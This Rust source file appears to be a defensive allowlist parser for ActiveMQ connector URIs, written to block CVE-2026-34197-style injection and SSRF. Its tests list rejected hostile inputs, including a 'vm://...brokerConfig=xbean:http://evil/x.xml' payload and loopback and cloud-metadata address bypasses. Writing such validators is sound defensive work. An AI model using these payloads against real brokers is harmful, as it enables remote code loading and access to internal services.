//! Where a network connector may connect to.
//!
//! ActiveMQ's connector URIs are a small programming language: transports nest, wrap discovery agents, start brokers
//! inside the process (`vm://x?brokerConfig=xbean:http://…`). CVE-2026-34197 and the two bypasses that followed it are all
//! of that kind. So a URI is not searched for bad parts; it is read by a grammar in which the bad parts do not exist,
//! and written anew:
//!
//! ```text
//! uri       = ("static" | "masterslave") ":(" address *("," address) ")" ["?" options]
//! address   = "ssl://" host ":" port ["?" options]
//! options   = name "=" value *("&" name "=" value)      ; names from two lists, values whole numbers, booleans
//! ```

use std::fmt;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// The `uri` of a network connector, in the only form that is let through.
///
/// [`fmt::Display`] gives the text back exactly as it was read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConnectorUri {
    composite: Composite,
    addresses: Vec<SslAddress>,
    options: Vec<UriOption>,
}

/// How the addresses of a connector belong together.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Composite {
    /// One bridge to each address.
    Static,
    /// One bridge to whichever of the addresses is the active broker.
    MasterSlave,
}

/// One address of a connector: TLS to a host and port.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SslAddress {
    host: String,
    port: u16,
    options: Vec<UriOption>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct UriOption {
    name: &'static str,
    value: String,
}

#[derive(Debug, Clone, Copy)]
enum OptionKind {
    Flag,
    Count,
}

/// Options of the composite: how reconnecting behaves. Sorted by name.
const COMPOSITE_OPTIONS: &[(&str, OptionKind)] = &[
    ("backOffMultiplier", OptionKind::Count),
    ("initialReconnectDelay", OptionKind::Count),
    ("maxReconnectAttempts", OptionKind::Count),
    ("maxReconnectDelay", OptionKind::Count),
    ("minConnectTime", OptionKind::Count),
    ("randomize", OptionKind::Flag),
    ("startupMaxReconnectAttempts", OptionKind::Count),
    ("timeout", OptionKind::Count),
    ("useExponentialBackOff", OptionKind::Flag),
    ("warnAfterReconnectAttempts", OptionKind::Count),
];

/// Options of one address: time limits of the socket. Sorted by name.
const ADDRESS_OPTIONS: &[(&str, OptionKind)] = &[
    ("connectionTimeout", OptionKind::Count),
    ("keepAlive", OptionKind::Flag),
    ("soTimeout", OptionKind::Count),
    ("tcpNoDelay", OptionKind::Flag),
    ("wireFormat.maxInactivityDuration", OptionKind::Count),
    (
        "wireFormat.maxInactivityDurationInitalDelay",
        OptionKind::Count,
    ),
];

/// More addresses than any cluster has.
const MAX_ADDRESSES: usize = 16;

impl ConnectorUri {
    /// Reads a URI, or gives nothing when it is not of the one permitted form.
    pub fn parse(uri: &str) -> Option<Self> {
        let (composite, rest) = [Composite::Static, Composite::MasterSlave]
            .into_iter()
            .find_map(|composite| Some((composite, uri.strip_prefix(composite.scheme())?)))?;
        let (addresses, rest) = rest.strip_prefix(":(")?.split_once(')')?;
        let options = match rest {
            "" => Vec::new(),
            rest => options(rest.strip_prefix('?')?, COMPOSITE_OPTIONS)?,
        };
        let addresses = addresses
            .split(',')
            .map(SslAddress::parse)
            .collect::<Option<Vec<_>>>()?;
        if addresses.len() > MAX_ADDRESSES {
            return None;
        }
        Some(Self {
            composite,
            addresses,
            options,
        })
    }

    /// How the addresses belong together.
    pub fn composite(&self) -> Composite {
        self.composite
    }

    /// The addresses, at least one, in order.
    pub fn addresses(&self) -> &[SslAddress] {
        &self.addresses
    }
}

impl Composite {
    const fn scheme(self) -> &'static str {
        match self {
            Self::Static => "static",
            Self::MasterSlave => "masterslave",
        }
    }
}

impl SslAddress {
    fn parse(address: &str) -> Option<Self> {
        let rest = address.strip_prefix("ssl://")?;
        let (authority, given) = rest
            .split_once('?')
            .map_or((rest, None), |(authority, options)| {
                (authority, Some(options))
            });
        let options = given.map_or(Some(Vec::new()), |given| options(given, ADDRESS_OPTIONS))?;
        let (host, port) = authority.rsplit_once(':')?;
        let plain = (1..=5).contains(&port.len())
            && port.bytes().all(|byte| byte.is_ascii_digit())
            && !port.starts_with('0');
        let port = if plain {
            port.parse().ok()?
        } else {
            return None;
        };
        is_permitted_host(host).then(|| Self {
            host: host.to_owned(),
            port,
            options,
        })
    }

    /// The host: a DNS name, an IPv4 address, or an IPv6 address in square brackets.
    ///
    /// Never a name or an address of the machine itself, of its link or of a metadata service. Addresses in
    /// 127.0.0.0/8 beyond 127.0.0.0/16 pass here, because brokers of the loopback network mode live there; whoever
    /// starts the engine knows which of them are brokers.
    pub fn host(&self) -> &str {
        &self.host
    }

    /// The port, never 0.
    pub fn port(&self) -> u16 {
        self.port
    }
}

fn options(text: &str, known: &[(&'static str, OptionKind)]) -> Option<Vec<UriOption>> {
    text.split('&')
        .map(|option| {
            let (name, value) = option.split_once('=')?;
            let (name, kind) = known.iter().find(|(known, _)| *known == name).copied()?;
            kind.permits(value).then(|| UriOption {
                name,
                value: value.to_owned(),
            })
        })
        .collect()
}

impl OptionKind {
    fn permits(self, value: &str) -> bool {
        let digits = |text: &str| {
            (1..=15).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_digit())
        };
        match self {
            Self::Flag => matches!(value, "true" | "false"),
            Self::Count => value == "-1" || digits(value),
        }
    }
}

fn is_permitted_host(host: &str) -> bool {
    if let Some(inner) = host.strip_prefix('[') {
        return inner
            .strip_suffix(']')
            .and_then(|text| text.parse::<Ipv6Addr>().ok())
            .is_some_and(is_permitted_v6);
    }
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        return is_permitted_v4(address);
    }
    is_permitted_name(host)
}

/// A DNS name of letters, digits and hyphens that cannot be read as an address in some other notation.
fn is_permitted_name(host: &str) -> bool {
    let label_fits = |label: &str| {
        (1..=63).contains(&label.len())
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
    };
    let lower = host.to_ascii_lowercase();
    let last = lower.rsplit('.').next().unwrap_or_default();
    // `127.1`, `0x7f000001`, `2130706433`: addresses to the C library, names to nobody.
    let like_an_address = last.bytes().all(|byte| byte.is_ascii_digit())
        || last
            .strip_prefix("0x")
            .is_some_and(|digits| digits.bytes().all(|byte| byte.is_ascii_hexdigit()));
    let of_the_machine = matches!(last, "localhost" | "localdomain")
        || matches!(lower.as_str(), "ip6-localhost" | "ip6-loopback");
    let metadata = matches!(
        lower.as_str(),
        "metadata" | "metadata.google.internal" | "instance-data" | "instance-data.ec2.internal"
    );
    host.len() <= 253
        && host.split('.').all(label_fits)
        && !like_an_address
        && !of_the_machine
        && !metadata
}

fn is_permitted_v4(address: Ipv4Addr) -> bool {
    let machine = matches!(
        address.octets(),
        [127, 0, _, _] | [0, _, _, _] | [127, 255, 255, _]
    );
    !(machine || address.is_link_local() || address.is_multicast() || address.is_broadcast())
}

fn is_permitted_v6(address: Ipv6Addr) -> bool {
    // The metadata service of EC2.
    const METADATA: Ipv6Addr = Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254);
    match address.to_canonical() {
        IpAddr::V4(mapped) => is_permitted_v4(mapped),
        IpAddr::V6(address) => {
            // `::/96` holds the unspecified address, `::1` and the old way to write IPv4 in IPv6.
            let low = address
                .segments()
                .iter()
                .take(6)
                .all(|segment| *segment == 0);
            !(low
                || address.is_multicast()
                || address.is_unicast_link_local()
                || address == METADATA)
        }
    }
}

impl fmt::Display for ConnectorUri {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:(", self.composite.scheme())?;
        for (at, address) in self.addresses.iter().enumerate() {
            let comma = if at == 0 { "" } else { "," };
            write!(f, "{comma}ssl://{}:{}", address.host, address.port)?;
            write_options(f, &address.options)?;
        }
        f.write_str(")")?;
        write_options(f, &self.options)
    }
}

fn write_options(f: &mut fmt::Formatter<'_>, options: &[UriOption]) -> fmt::Result {
    for (at, option) in options.iter().enumerate() {
        let mark = if at == 0 { '?' } else { '&' };
        write!(f, "{mark}{}={}", option.name, option.value)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_forms_of_amazons_own_examples_are_read_and_written_back_unchanged() {
        for good in [
            "static:(ssl://b-1234a5b6-78cd-901e-2fgh-3i45j6k178l9-1.mq.us-east-2.amazonaws.com:61617)",
            "masterslave:(ssl://b-1-1.mq.us-east-2.amazonaws.com:61617,ssl://b-1-2.mq.us-east-2.amazonaws.com:61617)",
            "static:(ssl://10.0.3.7:61617,ssl://[2001:db8::7]:61617)?maxReconnectDelay=5000&useExponentialBackOff=false",
            "masterslave:(ssl://a.example:1?keepAlive=true&wireFormat.maxInactivityDuration=0,ssl://b:65535)?randomize=false",
            "static:(ssl://127.20.0.5:61617)",
            "static:(ssl://a.example:61617)?maxReconnectAttempts=-1&backOffMultiplier=2",
        ] {
            let uri = ConnectorUri::parse(good).unwrap_or_else(|| panic!("{good}"));
            assert_eq!(uri.to_string(), good);
        }
        let uri = ConnectorUri::parse("masterslave:(ssl://a:1,ssl://b:2)").unwrap();
        assert_eq!(uri.composite(), Composite::MasterSlave);
        let pairs: Vec<_> = uri
            .addresses()
            .iter()
            .map(|address| (address.host(), address.port()))
            .collect();
        assert_eq!(pairs, [("a", 1), ("b", 2)]);
    }

    #[test]
    fn every_other_transport_wrapper_and_spelling_is_refused() {
        for bad in [
            "",
            "static",
            "static:",
            "static:()",
            "static:(,)",
            "static:(ssl://a:1",
            "static:ssl://a:1",
            "ssl://a:1",
            "static://(ssl://a:1)",
            "STATIC:(ssl://a:1)",
            "static:(SSL://a:1)",
            "static:(tcp://a:1)",
            "static:(vm://a:1)",
            "static:(nio+ssl://a:1)",
            "static:(ssl://a:1,tcp://b:1)",
            "static:(ssl://a:1, ssl://b:1)",
            " static:(ssl://a:1)",
            "static:(ssl://a:1) ",
            "static:(ssl://a:1)x",
            "static:(ssl://a:1))",
            "static:((ssl://a:1))",
            "static:(static:(ssl://a:1))",
            "masterslave:(failover:(ssl://a:1))",
            "failover:(ssl://a:1)",
            "fanout:(ssl://a:1)",
            "peer://g/b",
            "multicast://default",
            "discovery:(multicast://default)",
            "zeroconf:x",
            "http://a/b",
            "ldap://a:1",
            "vm://x?brokerConfig=xbean:http://evil/x.xml",
            "static:(vm://x?brokerConfig=xbean:http://evil/x.xml)",
            "static:(ssl://a:1?brokerConfig=xbean:x)",
            "static:(ssl://a:1)?brokerConfig=xbean:x",
            "xbean:http://evil/x.xml",
            "static:(ssl://a:1)?nested.brokerConfig=x",
            "static:(ssl://a:1)?transport.useKeepAlive=true",
            "static:(ssl://a:1)?",
            "static:(ssl://a:1)?randomize",
            "static:(ssl://a:1)?randomize=",
            "static:(ssl://a:1)?randomize=1",
            "static:(ssl://a:1)?timeout=x",
            "static:(ssl://a:1)?backOffMultiplier=1.5",
            "static:(ssl://a:1)?timeout=1&",
            "static:(ssl://a:1)?timeout=1;x=2",
            "static:(ssl://a:1?)",
            "static:(ssl://a:1?wireFormat=evil)",
            "static:(ssl://a:1?soTimeout=1)(ssl://b:1)",
            "static:(ssl://a)",
            "static:(ssl://a:)",
            "static:(ssl://a:0)",
            "static:(ssl://a:65536)",
            "static:(ssl://a:+1)",
            "static:(ssl://a:01)",
            "static:(ssl://u@a:1)",
            "static:(ssl://u:p@a:1)",
            "static:(ssl://a:1/x)",
            "static:(ssl://a:1#x)",
            "static:(ssl://a%2eb:1)",
            "static:(ssl:///a:1)",
            "static:(ssl:a:1)",
            "static:(ssl://:1)",
            "static:(ssl://a..b:1)",
            "static:(ssl://a.:1)",
            "static:(ssl://-a:1)",
            "static:(ssl://a_b:1)",
            "static:(ssl://ä:1)",
            "static:(ssl://a:1\n)",
            "static:(ssl://a:1,)",
            "static:(ssl://${host}:1)",
            "#connector",
            "static:(ssl://a:1:2)",
            "static:(ssl://[::1:1)",
        ] {
            assert_eq!(ConnectorUri::parse(bad), None, "{bad}");
        }
    }

    #[test]
    fn the_machine_its_link_and_metadata_services_are_not_hosts() {
        for bad in [
            "localhost",
            "LOCALHOST",
            "x.localhost",
            "localhost.localdomain",
            "127.0.0.1",
            "127.0.1.1",
            "127.1",
            "127.255.255.255",
            "2130706433",
            "0x7f000001",
            "0x7f.1",
            "0177.0.0.1",
            "0.0.0.0",
            "0.1.2.3",
            "169.254.169.254",
            "224.0.0.1",
            "255.255.255.255",
            "1.2.3",
            "1.2.3.4.5",
            "[::1]",
            "[::]",
            "[::127.0.0.1]",
            "[::ffff:127.0.0.1]",
            "[::ffff:169.254.169.254]",
            "[fe80::1]",
            "[fe80::1%25eth0]",
            "[ff02::1]",
            "[fd00:ec2::254]",
            "[1.2.3.4]",
            "metadata.google.internal",
            "instance-data",
            "ip6-localhost",
        ] {
            assert!(!is_permitted_host(bad), "{bad}");
        }
    }

    #[test]
    fn more_addresses_than_a_cluster_has_are_refused() {
        let many = |count: usize| format!("static:({})", vec!["ssl://a:1"; count].join(","));
        assert!(ConnectorUri::parse(&many(16)).is_some());
        assert!(ConnectorUri::parse(&many(17)).is_none());
    }
}
